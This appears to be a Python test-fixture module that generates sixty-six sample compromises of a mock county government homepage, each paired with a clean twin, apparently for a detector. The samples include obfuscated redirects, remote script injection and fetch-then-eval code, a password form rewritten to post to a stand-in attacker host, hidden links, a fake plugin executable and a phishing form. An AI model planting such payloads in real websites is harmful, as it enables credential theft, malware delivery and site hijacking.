"""Sixty-six attacks more, written after the last mending and before anybody judged them; each with its clean twin."""

import base64
from collections.abc import Iterator

from tests.pages.imitations.attacks import BAD, GOOD, Attack, home

_HOST = BAD.removeprefix("http://")
_ADS = f"<a href='{BAD}/z1'>工业除尘器</a><a href='{BAD}/z2'>会议桌椅</a><a href='{BAD}/z3'>商标转让</a>"
_OURS = f"<a href='{GOOD}/'>云山旅游</a><a href='https://www.nea.gov.cn/'>国家能源局</a>"
_TITLE = "<title>首页_云山县人民政府</title>"


def _put(name: str, page: str, twin: str, *, plain: bool = True) -> Attack:
    return Attack(name, home(page), home(twin), plain)


def _run(name: str, script: str, twin: str, *, plain: bool = True) -> Attack:
    return _put(name, f"<script>{script}</script>", f"<script>{twin}</script>", plain=plain)


def _box(name: str, around: str, twin: str, *, plain: bool = True) -> Attack:
    return _put(name, around.replace("{}", _ADS), twin.replace("{}", _OURS), plain=plain)


def _dull(text: str) -> str:
    return "".join(f"&#x{ord(char):x};" for char in text)


def _numbers(text: str) -> str:
    return ",".join(str(ord(char)) for char in text)


def _hidden() -> Iterator[Attack]:
    for name, style, twin in (
        ("no line, no letters", "text-indent:-999em;line-height:0;font-size:0", "text-indent:2em;line-height:1.6"),
        ("hundredth of a pixel", "width:100%;height:0.01px;overflow:hidden", "width:100%;height:40px;overflow:hidden"),
        ("two screens to the left", "transform:translate3d(-200vw,0,0)", "transform:translate3d(0,0,0)"),
        ("three screens up", "margin-top:-300vh;position:absolute", "margin-top:-3px;position:relative"),
        ("scaled to a grain", "transform:scale(0.001)", "transform:scale(0.98)"),
        ("room for a dot", "overflow:hidden;max-width:1px;max-height:1px", "overflow:hidden;max-width:960px"),
        ("letters of glass", "color:transparent;font-size:12px", "color:#444;font-size:12px"),
        ("unseen and flat", "visibility: hidden; height: 0", "visibility: visible; height: 2em"),
    ):
        yield _box(name, f"<div style='{style}'>{{}}</div>", f"<div style='{twin}'>{{}}</div>")
    yield _box(
        "heading without height",
        "<h2 style='height:0;overflow:hidden;margin:0'>{}</h2>",
        "<h2 style='height:36px;overflow:hidden;margin:0'>{}</h2>",
    )
    yield _put(
        "each a dot",
        "".join(
            f"<a style='display:inline-block;width:1px;height:1px;overflow:hidden' href='{BAD}/{n}'>货{n}</a>"
            for n in range(5)
        ),
        "".join(f"<a style='display:inline-block;width:90px' href='/xx/{n}'>事项{n}</a>" for n in range(5)),
    )
    yield _box(
        "cut by the sheet",
        "<style>#bq a{position:absolute;clip:rect(1px,1px,1px,1px)}</style><div id='bq'>{}</div>",
        "<style>#bq a{position:static;padding:1px}</style><div id='bq'>{}</div>",
    )
    yield _box(
        "a sheet that is written",
        "<div id='wz'>{}</div><script>document.write('<style>#wz{display:none}</style>')</script>",
        "<div id='wz'>{}</div><script>document.write('<style>#wz{float:left}</style>')</script>",
    )
    yield _run(
        "box that a script makes",
        f"var d=document.createElement('div');d.innerHTML='<a href=\"{BAD}/1\">甲</a>';d.style.cssText='display:none';"
        "document.body.appendChild(d)",
        "var d=document.createElement('div');d.innerHTML='<a href=\"/1\">甲</a>';d.style.cssText='color:red';"
        "document.body.appendChild(d)",
    )
    yield _box(
        "rule that is inserted",
        "<div class='kj'>{}</div><script>document.styleSheets[0].insertRule('.kj{visibility:hidden}',0)</script>",
        "<div class='kj'>{}</div><script>document.styleSheets[0].insertRule('.kj{margin:2px}',0)</script>",
    )
    yield _box(
        "by a list of classes",
        "<style>.off{display:none}</style><p id='lb'>{}</p><script>lb.classList.add('off')</script>",
        "<style>.off{display:none}</style><p id='lb'>{}</p><script>lb.classList.remove('off')</script>",
        plain=False,
    )
    yield _box(
        "by the width of an attribute",
        "<marquee behavior='slide' width='2' height='2'>{}</marquee>",
        "<marquee behavior='slide' width='700' height='24'>{}</marquee>",
    )
    yield _box("hidden, in capitals", "<DIV STYLE='DISPLAY:NONE'>{}</DIV>", "<DIV STYLE='DISPLAY:BLOCK'>{}</DIV>")


def _led() -> Iterator[Attack]:
    yield _run(
        "handed over",
        "(function(a,b){if(/(android|iphone|ipod|mobile)/i.test(a))window.location=b})(navigator.userAgent||navigator"
        f".vendor,'{BAD}/m')",
        "(function(a,b){if(/(android|iphone|ipod|mobile)/i.test(a))window.location=b})(navigator.userAgent||navigator"
        ".vendor,'/m/')",
        plain=False,
    )
    yield _run(
        "numbers with a name, written",
        f"var xt=String.fromCharCode({_numbers(f'<script src={BAD}/x.js></script>')});document.write(xt)",
        f"var xt=String.fromCharCode({_numbers('云山')});console.log(xt)",
    )
    yield _run(
        "single letters",
        f"document.location.replace([{','.join(repr(char) for char in BAD)}].join(''))",
        "show(['2','0','2','6'].join(''))",
    )
    coded = base64.b64encode(f"{BAD}/go".encode()).decode()
    yield _run("decoded by the window", f"window.location.href=window.atob('{coded}')", "logo.alt=window.atob('YQ==')")
    yield _run(
        "with a number behind",
        f"var url='{BAD}/';if(document.referrer.indexOf('.gov.cn')<0){{window.location.href=url+'?'+Math.random()}}",
        "var url='/count';if(document.referrer.indexOf('.gov.cn')<0){beat.src=url+'?'+Math.random()}",
    )
    yield _run(
        "template", f"const h='{_HOST}';location.href=`http://${{h}}/`", "const h='云山';tip.innerText=`${h}欢迎您`"
    )
    yield _run(
        "attribute of the place",
        f"jQuery(function(){{jQuery(location).attr('href','{BAD}/q')}})",
        "jQuery(function(){jQuery('#top').attr('href','#')})",
    )
    yield _run(
        "function of a fetch",
        f"new Function('return fetch(\"{BAD}/k\").then(r=>r.text()).then(eval)')()",
        "(function(){return fetch('/k.json').then(r=>r.json())})()",
    )
    yield _run(
        "answer that is an address",
        "var x=new XMLHttpRequest();x.open('GET','/upload/k.txt');x.onload=function(){location.href=x.re"
        "sponseText};x.send()",
        "var x=new XMLHttpRequest();x.open('GET','/tq.txt');x.onload=function(){tq.innerText=x.responseText};x.send()",
        plain=False,
    )
    yield _put(
        "called back",
        f"<script>function cb(d){{location.href=d.url}}</script><script src='{BAD}/j?callback=cb'></script>",
        "<script>function cb(d){tq.innerText=d.t}</script><script src='/tq?callback=cb'></script>",
        plain=False,
    )
    yield _put(
        "press anywhere",
        "<script>document.documentElement.addEventListener('mouseup',function(){window.open('" + BAD + ""
        "/any')})</script>",
        "<script>document.documentElement.addEventListener('mouseup',function(){drag.stop()})</script>",
    )
    yield _run(
        "hash that is run",
        "eval(decodeURIComponent(location.hash.slice(1)))",
        "tab(decodeURIComponent(location.hash.slice(1)))",
        plain=False,
    )
    yield _run(
        "after counting down",
        f"var n=3;var t=setInterval(function(){{n--;if(n<1){{clearInterval(t);top.location='{BAD}/cd'}}}},900)",
        "var n=3;var t=setInterval(function(){n--;if(n<1){clearInterval(t);pic.next()}},900)",
    )
    yield _run(
        "frame that breaks out",
        f"if(self==top){{document.write('<frameset rows=*><frame src={BAD}/></frameset>')}}",
        "if(self==top){document.write('<small>欢迎</small>')}",
        plain=False,
    )
    yield _run(
        "switch by searcher",
        f"switch(true){{case /baidu/.test(document.referrer):location='{BAD}/1';break;case /so\\.com/."
        f"test(document.referrer):location='{BAD}/2'}}",
        "switch(true){case /zwfw/.test(document.referrer):mark(1);break;case /xwzx/.test(document.referrer):mark(2)}",
    )
    yield _run(
        "escaped twice",
        'document.write(unescape(unescape("%253Cscript%2520src%253D' + BAD.replace(":", "%253A") + "/2.j"
        's%253E%253C/script%253E")))',
        'document.write(unescape(unescape("%253Cb%253E%253C/b%253E")))',
        plain=False,
    )


def _named() -> Iterator[Attack]:
    words = _dull("澳门永利娱乐_永利皇宫官网")
    yield Attack(
        "a block before the head",
        f"<title>{words}</title><meta name='keywords' content='{words}'><meta name='description' content='{words}'>"
        "<script>if(navigator.userAgent.toLocaleLowerCase().indexOf('baidu')==-1){document.title='首页_云山县人民政府'}"
        f"</script><script src='{BAD}/sj.js'></script>" + home(),
        "<meta name='keywords' content='云山县'><meta name='description' content='云山县人民政府'>" + home(),
    )
    yield Attack(
        "title of a lottery",
        home().replace(_TITLE, "<title>一分快三计划_幸运飞艇开奖</title>"),
        home().replace(_TITLE, "<title>一分钟了解三农政策_云山县人民政府</title>"),
    )
    yield Attack(
        "description of a special number",
        home(head="<meta name='description' content='六合彩特码，香港马会资料大全'>"),
        home(head="<meta name='description' content='六合村特色产业，香菇种植资料大全'>"),
    )
    yield Attack(
        "what friends see",
        home(head="<meta property='og:description' content='真人百家乐，注册送彩金'>"),
        home(head="<meta property='og:description' content='云山县人民政府门户网站'>"),
    )
    yield _put(
        "in the data of a page",
        '<script type=\'application/ld+json\'>{"@type":"WebPage","description":"皇冠体育投注网址"}</script>',
        '<script type=\'application/ld+json\'>{"@type":"WebPage","description":"体育中心开放时间"}</script>',
    )
    yield Attack(
        "page for telephones",
        home(head=f"<link rel='amphtml' href='{BAD}/amp'>"),
        home(head="<link rel='amphtml' href='/amp/'>"),
    )
    yield Attack(
        "half a minute later",
        home(head=f"<meta http-equiv='refresh' content='30;URL={BAD}/'>"),
        home(head="<meta http-equiv='refresh' content='300'>"),
    )
    yield Attack(
        "name of a house of games",
        home().replace(_TITLE, "<title>金鼎豪庭线路检测</title>"),
        home().replace(_TITLE, "<title>云山县人民政府网</title>"),
        plain=False,
    )
    yield Attack(
        "languages of strangers",
        home(
            head=f"<link rel='alternate' hreflang='zh-cn' href='{BAD}/cn'>"
            f"<link rel='alternate' hreflang='vi' href='{BAD}/vi'>"
        ),
        home(head="<link rel='alternate' hreflang='zh-cn' href='/'><link rel='alternate' hreflang='en' href='/en/'>"),
        plain=False,
    )


def _framed() -> Iterator[Attack]:
    yield _put(
        "frame and nothing else",
        f"<style>body>*:not(iframe){{display:none}}</style><iframe src='{BAD}/' style='width:100vw;height:100vh;"
        "position:absolute;left:0;top:0'></iframe>",
        "<style>@media print{body>*:not(main){display:none}}</style><iframe src='/sp/' style='width:100%'></iframe>",
    )
    yield _put(
        "frame without pixels",
        f"<iframe src='//{_HOST}' width='0px' height='0px'></iframe>",
        "<iframe src='//video.yunshan.example' width='480px' height='270px'></iframe>",
    )
    yield _put(
        "frame nearly clear",
        f"<iframe src='{BAD}/' style='opacity:0.01;position:absolute'></iframe>",
        "<iframe src='/sp/2' style='opacity:1;position:relative'></iframe>",
    )
    yield _put("frame that says hidden", f"<iframe hidden src='{BAD}/'></iframe>", "<iframe src='/sp/3'></iframe>")
    yield _put(
        "form that is out of sight",
        f"<form name='yy' action='{BAD}/' style='display:none'><input type='hidden' name='s'></form>"
        "<script>document.yy.submit()</script>",
        "<form name='yy' action='/ss' style='display:none'><input type='hidden' name='s'></form>",
    )
    yield _put(
        "picture that fails loads a script",
        f"<img src='x' onerror=\"s=document.createElement('script');s.src='//{_HOST}/e.js';document.body."
        'appendChild(s)">',
        "<img src='x' onerror=\"s=document.createElement('span');s.title='图';this.replaceWith(s)\">",
        plain=False,
    )
    yield _put(
        "login that sends elsewhere",
        f"<form action='/login' onsubmit=\"this.action='{BAD}/l'\">密码<input type='password' name='p'></form>",
        "<form action='/login' onsubmit=\"return check(this)\">密码<input type='password' name='p'></form>",
        plain=False,
    )
    yield _put(
        "cover without a text",
        f"<div style='position:fixed;left:0;top:0;right:0;bottom:0;z-index:9999' onclick=\"location.href="
        f"'{BAD}'\"></div>",
        "<div style='position:fixed;right:0;bottom:0;z-index:9999' onclick=\"toTop()\">回顶部</div>",
        plain=False,
    )


def _later() -> Iterator[Attack]:
    yield _put(
        "store in the cloud",
        "<script src='https://tj8.oss-cn-hongkong.aliyuncs.com/a.js'></script>",
        "<script src='/js/a.js?t=20261123'></script>",
        plain=False,
    )
    yield _head("fonts of a stranger", f"<style>@font-face{{font-family:a;src:url({BAD}/a.woff)}}</style>",
                "<style>@font-face{font-family:a;src:url(/fonts/a.woff)}</style>")  # fmt: skip
    yield Attack(
        "map of the site elsewhere",
        home().replace("<a href='/map/'>网站地图</a>", f"<a href='{BAD}/map'>网站地图</a>"),
        home().replace("<a href='/map/'>网站地图</a>", "<a href='/sitemap/'>网站地图</a>"),
        plain=False,
    )
    yield Attack(
        "name of the site elsewhere",
        home().replace("<h1><a href='/'>云山县人民政府</a></h1>", f"<h1><a href='{BAD}/'>云山县人民政府</a></h1>"),
        home().replace("<h1><a href='/'>云山县人民政府</a></h1>", "<h1><a href='/index.html'>云山县人民政府</a></h1>"),
        plain=False,
    )
    yield _run(
        "a last word",
        f"navigator.sendBeacon('{BAD}/b',location.href)",
        "navigator.sendBeacon('/b',location.href)",
        plain=False,
    )
    yield _put(
        "program to load",
        f"<p><a href='{BAD}/plugin/setup.exe'>视频插件下载</a></p>",
        "<p><a href='/plugin/setup.zip'>视频插件下载</a></p>",
        plain=False,
    )
    yield _box("for readers alone", "<div class='sr-only'>{}</div>", "<div class='ny-r'>{}</div>", plain=False)
    yield _run(
        "heading anew",
        f"document.querySelector('h1').innerHTML='<a href=\"{BAD}\">云山</a>'",
        "document.querySelector('h1').innerHTML='<a href=\"/\">云山</a>'",
        plain=False,
    )
    yield _run(
        "worker from a folder of uploads",
        "if('serviceWorker' in navigator){navigator.serviceWorker.register('/uploads/file/s.js',{scope:'/'})}",
        "if('IntersectionObserver' in window){lazy.start()}",
        plain=False,
    )
    yield _put(
        "scripts by a module",
        f"<script type='module'>import * as q from '{BAD}/q.js'</script>",
        "<script type='module'>import * as q from '/js/q.js'</script>",
        plain=False,
    )
    yield _put(
        "frame by its name later",
        f"<iframe name='fb' width='300' height='200'></iframe><script>window.frames['fb'].location='{BAD}/f'</script>",
        "<iframe name='fb' width='300' height='200'></iframe><script>window.frames['fb'].location='/sp/4'</script>",
    )
    yield _run(
        "video that is not ours",
        f"player.src({{type:'video/mp4',src:'{BAD}/v.mp4'}})",
        "player.src({type:'video/mp4',src:'http://video.yunshan.example/v.mp4'})",
        plain=False,
    )
    yield _put(
        "player in a frame",
        f"<iframe src='{BAD}/player?id=7' width='560' height='315'></iframe>",
        "<iframe src='http://video.yunshan.example/player?id=7' width='560' height='315'></iframe>",
        plain=False,
    )
    yield _put(
        "survey with telephone numbers",
        f"<form action='{BAD}/dc'><p>惠民补贴登记</p>姓名<input name='x'>手机<input name='sj'>"
        "<button>提交</button></form>",
        "<form action='/dc'><p>惠民补贴登记</p>姓名<input name='x'>手机<input name='sj'><button>提交</button></form>",
        plain=False,
    )
    yield _head("sheet that prints elsewhere", f"<link rel='stylesheet' type='text/css' href='//{_HOST}/skin.css'>",
                "<link rel='stylesheet' type='text/css' href='/skin/gray.css'>")  # fmt: skip
    yield Attack(
        "words in place of everything",
        "<html><head><meta charset='utf-8'><title>通知</title></head><body style='background:#000;color:#0f0'><pre>"
        "网站存在高危漏洞，请联系管理员修复</pre></body></html>",
        home("<p>关于开展网站高危漏洞排查的通知</p>"),
        plain=False,
    )


def _head(name: str, head: str, twin: str) -> Attack:
    return Attack(name, home(head=head), home(head=twin), plain=False)


LATEST_ATTACKS = (*_hidden(), *_led(), *_named(), *_framed(), *_later())
